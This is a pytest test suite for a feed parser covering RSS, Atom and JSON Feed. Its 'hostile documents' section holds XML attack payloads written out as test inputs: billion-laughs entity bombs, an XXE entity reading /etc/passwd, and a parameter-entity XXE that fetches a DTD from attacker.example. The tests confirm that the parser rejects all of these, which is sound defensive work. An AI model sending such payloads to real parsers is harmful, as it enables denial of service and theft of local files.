import socket
import time
import xml.sax
from datetime import UTC, datetime
from pathlib import Path

import feedparser.api
import pytest

from news import feeds
from news.feeds import FeedParseError, ParsedFeed, parse_feed

FIXTURES = Path(__file__).parent / "fixtures"


@pytest.fixture(autouse=True)
def _no_network(monkeypatch):
    """Parsing must never open a connection, whatever a document points at."""

    def refuse(*args, **kwargs):
        raise AssertionError("feed parsing tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def parse_fixture(name: str, base_url: str, **kwargs) -> ParsedFeed:
    return parse_feed((FIXTURES / name).read_bytes(), base_url=base_url, **kwargs)


def rss(items: str, *, channel_title: str = "Feed", prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0"><channel>'
        f"<title>{channel_title}</title><link>https://e.com/</link>{items}</channel></rss>"
    ).encode()


# ---------------------------------------------------------------- formats


def test_rss20_feed_fields():
    feed = parse_fixture("rss20.xml", "https://www.acme-ai.example/blog/feed.xml")
    assert feed.title == "Acme AI \u2013 Blog"
    assert feed.link == "https://www.acme-ai.example/blog"
    assert feed.ttl_minutes == 60
    assert [entry.url for entry in feed.entries] == [
        "https://www.acme-ai.example/blog/introducing-nimbus-2",
        "https://www.acme-ai.example/blog/frontier-safety-forum",
        "https://www.acme-ai.example/events/office-hours",
        "https://www.acme-ai.example/blog/permalink-only",
        "https://www.acme-ai.example/blog/time-travel",
    ]


def test_rss20_full_content_entry():
    entry = parse_fixture("rss20.xml", "https://www.acme-ai.example/blog/feed.xml").entries[0]
    assert entry.title == "Introducing Nimbus 2 & the road ahead"
    assert entry.guid == "acme-post-1042"
    assert entry.published_at == datetime(2025, 3, 4, 14, 30, tzinfo=UTC)
    assert entry.author == "Dana Whitfield"
    assert entry.summary == "Nimbus 2 is faster and cheaper. Read on for the details."
    assert entry.has_full_content is True
    assert "<strong>Nimbus 2</strong>" in entry.content_html
    assert "<script" not in entry.content_html
    assert "tracking pixel" not in entry.content_html
    assert "onclick" not in entry.content_html
    assert (
        '<a href="https://www.acme-ai.example/docs/migration" rel="noopener noreferrer nofollow">'
        in entry.content_html
    )
    assert 'src="https://www.acme-ai.example/images/nimbus-2.png"' in entry.content_html


def test_rss20_teaser_entry():
    entry = parse_fixture("rss20.xml", "https://www.acme-ai.example/blog/feed.xml").entries[1]
    assert entry.guid == "https://www.acme-ai.example/blog/frontier-safety-forum"
    assert entry.published_at == datetime(2025, 3, 3, 8, 0, tzinfo=UTC)
    assert entry.author == "Acme Press Team"
    assert entry.has_full_content is False
    assert entry.content_html == ""
    assert entry.summary == (
        "We are joining the Frontier Safety Forum to share evaluation methods with other labs\u2026"
    )


def test_rss20_missing_and_absurd_dates_stay_none():
    entries = parse_fixture("rss20.xml", "https://www.acme-ai.example/blog/feed.xml").entries
    by_url = {entry.url.rsplit("/", 1)[-1]: entry for entry in entries}
    assert by_url["office-hours"].published_at is None
    assert by_url["office-hours"].guid is None
    assert by_url["office-hours"].title == "Office hours: ask our research team anything"
    assert by_url["time-travel"].published_at is None


def test_rss20_guid_permalink_serves_as_link():
    entries = parse_fixture("rss20.xml", "https://www.acme-ai.example/blog/feed.xml").entries
    assert entries[3].url == "https://www.acme-ai.example/blog/permalink-only"
    assert entries[3].guid == "https://www.acme-ai.example/blog/permalink-only"


def test_rss091_with_netscape_doctype_and_latin1():
    feed = parse_fixture("rss091.xml", "http://oldlab.example/rss.xml")
    assert feed.title == "Old Lab News"
    assert feed.link == "http://oldlab.example/"
    assert [entry.title for entry in feed.entries] == ["Café robotics demo", "Lab open day"]
    assert feed.entries[0].summary == "Our robot now serves café au lait."
    assert all(entry.published_at is None for entry in feed.entries)
    assert all(entry.guid is None for entry in feed.entries)


def test_rss10_rdf():
    feed = parse_fixture("rss10.rdf", "https://research.example.org/rss")
    assert feed.title == "Research Institute: Papers"
    first, second = feed.entries
    assert first.url == "https://research.example.org/papers/sparse-attention"
    assert first.guid == "https://research.example.org/papers/sparse-attention"
    assert first.author == "M. Okafor"
    assert first.published_at == datetime(2025, 2, 20, 8, 15, tzinfo=UTC)
    assert second.published_at == datetime(2025, 2, 18, tzinfo=UTC)


def test_atom_feed():
    feed = parse_fixture("atom.xml", "https://labs.example.com/atom.xml")
    assert feed.title == "Example Labs"
    assert feed.link == "https://labs.example.com/"
    assert feed.ttl_minutes is None
    first, second = feed.entries
    # Resolved against xml:base; <published> wins over <updated>.
    assert first.url == "https://labs.example.com/posts/scaling-inference"
    assert first.guid == "tag:labs.example.com,2025:posts/scaling-inference"
    assert first.title == "Scaling inference to a million users"
    assert first.published_at == datetime(2025, 3, 5, 8, 0, tzinfo=UTC)
    assert first.author == "Priya Raman"
    assert first.summary == "How we serve a million daily users from twelve GPUs."
    assert first.has_full_content is True
    assert "<h2>Continuous batching</h2>" in first.content_html
    assert 'href="https://labs.example.com/docs/caching"' in first.content_html
    # Without <published>, <updated> is the best date the feed offers.
    assert second.published_at == datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
    assert second.has_full_content is False


def test_json_feed():
    feed = parse_fixture("feed.json", "https://updates.example.ai/feed.json")
    assert feed.title == "Mistralish Updates"
    assert feed.link == "https://updates.example.ai/"
    first, second = feed.entries  # the item without a URL is skipped
    assert first.url == "https://updates.example.ai/posts/agents-api"
    assert first.guid == "2025-03-02-agents"
    assert first.published_at == datetime(2025, 3, 2, 21, 0, tzinfo=UTC)
    assert first.author == "Lucie Martin"
    assert first.summary == "The Agents API leaves beta."
    assert "javascript" not in first.content_html
    assert second.guid == "77"
    assert second.author == "Pricing Team"
    assert second.published_at == datetime(2025, 2, 27, 8, 0, tzinfo=UTC)
    assert second.content_html == (
        "<p>Small models now cost 30% less.</p><p>The new prices apply from the first of April.</p>"
    )


def test_json_feed_detected_by_content_type_or_version():
    body = (FIXTURES / "feed.json").read_bytes()
    for content_type in (None, "application/feed+json", "application/json; charset=utf-8"):
        feed = parse_feed(body, base_url="https://updates.example.ai/", content_type=content_type)
        assert len(feed.entries) == 2


def test_json_that_is_not_a_json_feed():
    with pytest.raises(FeedParseError, match="not a JSON Feed"):
        parse_feed(
            b'{"data": [1, 2, 3]}', base_url="https://e.com/api", content_type="application/json"
        )
    with pytest.raises(FeedParseError, match="invalid JSON"):
        parse_feed(b'{"version": ', base_url="https://e.com/feed.json")


def test_feed_with_title_but_no_entries_is_valid():
    feed = parse_feed(rss("", channel_title="Quiet blog"), base_url="https://e.com/feed")
    assert feed.title == "Quiet blog"
    assert feed.entries == []


def test_entries_without_an_http_link_are_skipped():
    items = (
        "<item><title>a</title><link>javascript:alert(1)</link></item>"
        "<item><title>b</title><link>ftp://e.com/b</link></item>"
        "<item><title>c</title><guid isPermaLink='false'>not-a-url</guid></item>"
        "<item><title>d</title><link>/d</link></item>"
    )
    feed = parse_feed(rss(items), base_url="https://e.com/feed.xml")
    assert [entry.url for entry in feed.entries] == ["https://e.com/d"]


def test_duplicate_entries_keep_their_first_occurrence():
    items = (
        "<item><title>one</title><link>https://e.com/a?utm_source=x</link><guid>g1</guid></item>"
        "<item><title>two</title><link>https://e.com/a</link><guid>g2</guid></item>"
        "<item><title>three</title><link>https://e.com/b</link><guid>g1</guid></item>"
        "<item><title>four</title><link>https://e.com/c</link><guid>g4</guid></item>"
    )
    feed = parse_feed(rss(items), base_url="https://e.com/feed.xml")
    assert [entry.title for entry in feed.entries] == ["one", "four"]


def test_long_titles_and_summaries_are_cut():
    long_words = "word " * 2000
    items = f"<item><title>{long_words}</title><link>https://e.com/a</link>"
    items += f"<description>{long_words}</description></item>"
    entry = parse_feed(rss(items), base_url="https://e.com/feed.xml").entries[0]
    assert len(entry.title) <= feeds.TITLE_MAX_CHARS
    assert len(entry.summary) <= feeds.SUMMARY_MAX_CHARS
    assert entry.summary.endswith("\u2026")


def test_full_article_in_description_counts_as_full_content():
    body = "<p>" + "A sentence about the release. " * 30 + "</p>"
    items = (
        "<item><title>t</title><link>https://e.com/a</link>"
        f"<description><![CDATA[{body}]]></description></item>"
    )
    entry = parse_feed(rss(items), base_url="https://e.com/feed.xml").entries[0]
    assert entry.has_full_content is True
    assert entry.content_html.startswith("<p>A sentence about the release.")


def test_lenient_parse_of_slightly_broken_xml():
    items = "<item><title>R&D update</title><link>https://e.com/rd</link></item>"
    feed = parse_feed(rss(items), base_url="https://e.com/feed.xml")
    assert [entry.title for entry in feed.entries] == ["R&D update"]


def test_ttl_must_be_a_sane_number_of_minutes():
    for ttl, expected in (("30", 30), ("0", None), ("-5", None), ("soon", None), ("99999", None)):
        feed = parse_feed(rss(f"<ttl>{ttl}</ttl>"), base_url="https://e.com/feed.xml")
        assert feed.ttl_minutes == expected


# ---------------------------------------------------------------- hostile documents

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://e.com/a</link></item></channel></rss>"""

ONE_LINE_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;'
    b'&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><rss version="2.0">'
    b"<channel><title>&c;</title></channel></rss>"
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>&xxe;</title><link>https://e.com/a</link></item></channel></rss>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
%remote;
]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        ONE_LINE_BOMB,
        XXE,
        PARAMETER_XXE,
        BILLION_LAUGHS.decode().encode("utf-16"),
    ],
    ids=["billion-laughs", "one-line-bomb", "xxe", "parameter-entity-xxe", "utf16-bomb"],
)
def test_entity_attacks_are_rejected_fast(document):
    started = time.perf_counter()
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(document, base_url="https://e.com/feed.xml")
    assert time.perf_counter() - started < 1.0


def test_defusedxml_is_the_preferred_sax_driver():
    assert feedparser.api.PREFERRED_XML_PARSERS[0] == "defusedxml.expatreader"
    # Only builds the parser feedparser would get, to see which driver wins.
    parser = xml.sax.make_parser(feedparser.api.PREFERRED_XML_PARSERS)  # noqa: S317
    assert type(parser).__module__ == "defusedxml.expatreader"


def test_hardening_is_idempotent():
    feeds._prefer_hardened_xml_parser()
    feeds._prefer_hardened_xml_parser()
    assert feedparser.api.PREFERRED_XML_PARSERS.count("defusedxml.expatreader") == 1
    assert feedparser.api.PREFERRED_XML_PARSERS[0] == "defusedxml.expatreader"


def test_defusedxml_rejects_entities_that_reach_the_parser():
    # The second line of defence, below the prolog check: feedparser re-inserts entity
    # declarations it considers safe, and defusedxml must refuse them.
    started = time.perf_counter()
    with pytest.raises(FeedParseError, match="forbidden XML construct"):
        feeds._run_feedparser(BILLION_LAUGHS, b"<?xml", "https://e.com/feed.xml", None)
    assert time.perf_counter() - started < 1.0


def test_plain_doctype_without_entities_is_allowed():
    document = rss(
        "<item><title>a</title><link>https://e.com/a</link></item>",
        prolog='<!DOCTYPE rss SYSTEM "http://e.com/rss.dtd">',
    )
    assert len(parse_feed(document, base_url="https://e.com/feed.xml").entries) == 1


def test_html_page_is_not_a_feed():
    for page in (
        (FIXTURES / "blog_post.html").read_bytes(),
        b"\n\n  <!-- cached --><html><body>Hi</body></html>",
        b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body/></html>',
    ):
        with pytest.raises(FeedParseError, match="Not a feed: the response is an HTML page"):
            parse_feed(page, base_url="https://e.com/feed", content_type="text/html")


@pytest.mark.parametrize(
    "body",
    [bytes(range(256)) * 8, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"just some text", b"[1, 2]"],
)
def test_garbage_bytes_are_not_a_feed(body):
    with pytest.raises(FeedParseError, match=r"Not a feed|Malformed feed"):
        parse_feed(body, base_url="https://e.com/feed")


def test_bytes_that_look_like_a_path_are_never_opened():
    with pytest.raises(FeedParseError, match="Not a feed"):
        parse_feed(b"/etc/passwd", base_url="https://e.com/feed")


@pytest.mark.parametrize("body", [b"", b"   \n\t", b"\xef\xbb\xbf"])
def test_empty_body(body):
    with pytest.raises(FeedParseError, match="Not a feed: the response body is empty"):
        parse_feed(body, base_url="https://e.com/feed")


def test_malformed_xml_without_anything_usable():
    for body in (
        b"<rss><channel><item><title>broken",
        b'<?xml version="1.0"?><rss version="2.0"><channel></channel></rss>',
    ):
        with pytest.raises(FeedParseError, match="Malformed feed: no entries and no feed title"):
            parse_feed(body, base_url="https://e.com/feed")
    with pytest.raises(FeedParseError, match="Malformed feed: invalid XML"):
        parse_feed(b"<<<>>>", base_url="https://e.com/feed")


def test_xml_that_is_not_a_feed():
    with pytest.raises(FeedParseError, match="not RSS or Atom"):
        parse_feed(b'<?xml version="1.0"?><sitemap><url/></sitemap>', base_url="https://e.com/")


def test_declared_utf8_with_latin1_bytes_is_decoded_leniently():
    # Decision: a lying encoding declaration is common and harmless, so the feed is
    # decoded as Windows-1252 (feedparser's fallback) instead of being rejected.
    body = rss("<item><title>Café ouvert</title><link>https://e.com/cafe</link></item>")
    body = body.decode("utf-8").encode("latin-1")
    feed = parse_feed(body, base_url="https://e.com/feed.xml")
    assert feed.entries[0].title == "Café ouvert"


def test_http_charset_applies_when_the_document_declares_none():
    body = (
        '<rss version="2.0"><channel><title>Новости</title>'
        "<item><title>Новая модель</title><link>https://e.ru/a</link></item></channel></rss>"
    ).encode("cp1251")
    feed = parse_feed(
        body, base_url="https://e.ru/rss", content_type="application/rss+xml; charset=windows-1251"
    )
    assert feed.title == "Новости"
    assert feed.entries[0].title == "Новая модель"


def test_oversized_feed_is_refused(monkeypatch):
    monkeypatch.setattr(feeds, "MAX_FEED_BYTES", 1000)
    with pytest.raises(FeedParseError, match="Feed is too large"):
        parse_feed(b" " * 1001, base_url="https://e.com/feed")


# ---------------------------------------------------------------- entry cap


def entry_date(index: int) -> datetime:
    # Dates rise and fall so that "newest" differs from "first in the document".
    return datetime(2024, 1, 1 + (index * 7) % 28, index % 24, tzinfo=UTC)


def big_feed(count: int, *, dated: bool = True) -> bytes:
    items = []
    for index in range(count):
        date = entry_date(index).strftime("<pubDate>%a, %d %b %Y %H:%M:%S GMT</pubDate>")
        items.append(
            f"<item><title>Post {index}</title><link>https://e.com/p/{index}</link>"
            f"<guid>g{index}</guid>{date if dated else ''}"
            f"<description>Teaser {index} with &lt;b&gt;markup&lt;/b&gt;.</description></item>"
        )
    return rss("".join(items), channel_title="Archive")


def test_5000_entries_are_capped_to_the_newest_quickly():
    document = big_feed(5000)
    started = time.perf_counter()
    feed = parse_feed(document, base_url="https://e.com/feed.xml")
    elapsed = time.perf_counter() - started
    assert elapsed < 10.0  # about two seconds on a laptop, mostly feedparser itself
    newest_first = sorted(range(5000), key=entry_date, reverse=True)
    expected = sorted(newest_first[: feeds.DEFAULT_MAX_ENTRIES])  # in document order
    assert [entry.title for entry in feed.entries] == [f"Post {index}" for index in expected]
    assert all(entry.published_at == entry_date(int(entry.title[5:])) for entry in feed.entries)


def test_undated_feed_keeps_the_first_entries():
    feed = parse_feed(big_feed(30, dated=False), base_url="https://e.com/feed.xml", max_entries=10)
    assert [entry.title for entry in feed.entries] == [f"Post {index}" for index in range(10)]
